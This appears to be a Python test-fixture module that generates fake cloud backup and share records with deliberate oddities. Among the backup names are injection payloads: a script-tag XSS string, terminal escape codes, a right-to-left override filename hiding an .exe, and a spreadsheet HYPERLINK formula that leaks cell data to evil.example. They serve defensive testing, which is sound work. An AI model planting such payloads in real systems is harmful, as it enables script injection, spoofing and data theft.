"""What one backup and one share look like on the wire, with the oddities that real ones have.

Which oddity a backup gets hangs on its serial number, not on luck: even a small world has one of each.
Not here: who shares what with whom and when (world.py).
"""

import json
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from random import Random
from typing import Any

Record = dict[str, Any]
"""One share or one backup as the API shows it. Records are shared between days: never change one in place."""

KEY_MATERIAL_MARK = "VKSECRET"
"""Begin of every fake volume key. Whatever the pipeline stores must not contain it."""

_PURPOSES = ("db", "web", "erp", "mail", "build", "files")
_ODD_NAMES = {
    2: "生产数据库备份",
    5: "<script>alert(document.domain)</script>",
    11: "\x1b[2J\x1b]0;owned\x07nightly",
    17: "invoice\u202egpj.exe",
    23: '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    28: "财务系统-每日",
}
_ODD_NAMES_REPEAT = 40
_SIZES = (1, 10, 40, 100, 200, 500, 1024)
_STATUSES = ("available", "error", "restoring", "creating", "deleting")
_FAIL_REASONS = (
    "Invalid InitiatorConnector protocol specified DSWARE",
    "The storage unit did not answer within 600 s",
)


def make_uuid(rng: Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def make_project_id(rng: Random) -> str:
    """32 hexadecimal digits with a letter in front, because digits alone are not a project id."""
    return rng.choice("abcdef") + f"{rng.getrandbits(124):031x}"


def stamp(moment: datetime) -> str:
    """A time the way the API writes it: UTC, six fraction digits, no zone."""
    return moment.astimezone(UTC).replace(tzinfo=None).isoformat(timespec="microseconds")


def make_share(rng: Random, backup: Record, giver: str, recipient: str, created: datetime, now: datetime) -> Record:
    updated = created + timedelta(seconds=rng.uniform(1, 400_000))
    return {
        "backup": backup,
        "backup_id": backup["id"],
        "created_at": stamp(created),
        "from_project_id": giver,
        "id": make_uuid(rng),
        "to_project_id": recipient,
        "updated_at": stamp(updated) if updated < now and rng.random() < 0.6 else None,
    }


def make_backup(rng: Random, serial: int, volume_id: str, created: datetime) -> Record:
    snapshot_id = rng.choice((None, make_uuid(rng)))
    failed = serial % 14 == 9
    spelling = "has_dependent_backup" if serial % 10 == 4 else "has_dependent_backups"
    size = rng.choice(_SIZES)
    return {
        "availability_zone": rng.choice(("eu-de-01", "eu-de-02")),
        "container": rng.choice((None, snapshot_id, make_uuid(rng))),
        "created_at": stamp(created),
        "data_timestamp": stamp(created - timedelta(seconds=33)),
        "description": _description(rng, serial),
        # The reason may stand there although the backup is available, as in the example of the spec page.
        "fail_reason": rng.choice(_FAIL_REASONS) if failed or serial % 30 == 16 else rng.choice((None, None, "")),
        spelling: rng.choice((None, False, True)),
        "id": make_uuid(rng),
        "is_incremental": rng.choice((None, None, False)),
        "name": _name(rng, serial),
        "object_count": rng.choice((None, 0, size * 64)),
        "size": size,
        "snapshot_id": snapshot_id,
        "status": "error" if failed else "available",
        "updated_at": rng.choice((None, stamp(created + timedelta(seconds=8)))),
        "volume_id": volume_id,
        "service_metadata": _service_metadata(rng, serial, volume_id, size),
    }


def change_backup(rng: Random, backup: Record, moment: datetime) -> Record:
    """The backup after something happened to it; in two of five cases `updated_at` does not tell."""
    change = rng.choice(_CHANGES)(rng, backup)
    if not change or rng.random() < 0.6:
        change["updated_at"] = stamp(moment)
    return {**backup, **change}


def _name(rng: Random, serial: int) -> str | None:
    odd = _ODD_NAMES.get(serial % _ODD_NAMES_REPEAT)
    if odd is not None or serial % 9 == 6:
        return odd
    scheduled = f"autobk_{rng.getrandbits(16):04x}"
    return rng.choice((scheduled, f"{rng.choice(_PURPOSES)}-{rng.randrange(100):02d}"))


def _description(rng: Random, serial: int) -> str | None:
    text = rng.choice(("", "before the upgrade", "monthly close", "requested by finance"))
    if serial % 3 == 0:
        return json.dumps({"DESC": text, "INC": rng.randrange(2)})
    return rng.choice((None, text))


def _service_metadata(rng: Random, serial: int, volume_id: str, size: int) -> str | None:
    if serial % 4 == 2:
        return None
    image, hex_id = make_uuid(rng), f"{rng.getrandbits(32):08x}"
    values: Record = {
        "DL": rng.choice((0, 2)),
        "VK": _key_material(rng) if serial % 20 == 3 else "",
        "CMKID": "",
        "bootable": rng.random() < 0.3,
        "backupurl": image,
        "SP": f"{make_uuid(rng)}/{image}/{volume_id}",
        "BP": f"obs.eu-de.example.com:443:vbs-{hex_id}",
        "ST": 0,
        "BT": rng.choice(("2", "7")),
        "SS": rng.choice((0, 90)),
        "progress": "100",
        "CS": size * 64,
        "VT": f"pool{rng.randrange(1, 4)}",
        "OMID": f"host-{hex_id}",
        "Type": rng.randrange(2),
        "ebk_T_I": make_uuid(rng),
        "AT": round(rng.uniform(0.5, 90), 1),
        "B_ID": f"backup-node-{rng.randrange(1, 5)}",
        "SNAPSHOTSIZE": str(size),
        "BackupSize": size,
    }
    text = json.dumps(values)
    return f"  {text}  " if serial % 6 == 1 else text


def _key_material(rng: Random) -> str:
    return KEY_MATERIAL_MARK + f"{rng.getrandbits(224):056x}"


def _new_status(rng: Random, backup: Record) -> Record:
    status = rng.choice([status for status in _STATUSES if status != backup["status"]])
    return {"status": status, "fail_reason": rng.choice(_FAIL_REASONS) if status == "error" else None}


def _new_size(rng: Random, backup: Record) -> Record:
    return {"size": backup["size"] + rng.choice((10, 100))}


def _new_name(rng: Random, backup: Record) -> Record:
    return {"name": f"{(backup['name'] or 'renamed')[:50]}-{rng.randrange(10_000):04d}"}


def _new_dependents(rng: Random, backup: Record) -> Record:  # noqa: ARG001 - all changes are called alike
    spelling = next(field for field in backup if field.startswith("has_dependent_backup"))
    return {spelling: not backup[spelling]}


def _new_nothing(rng: Random, backup: Record) -> Record:  # noqa: ARG001 - all changes are called alike
    return {}


_CHANGES: tuple[Callable[[Random, Record], Record], ...] = (
    _new_status,
    _new_size,
    _new_name,
    _new_dependents,
    _new_nothing,
)
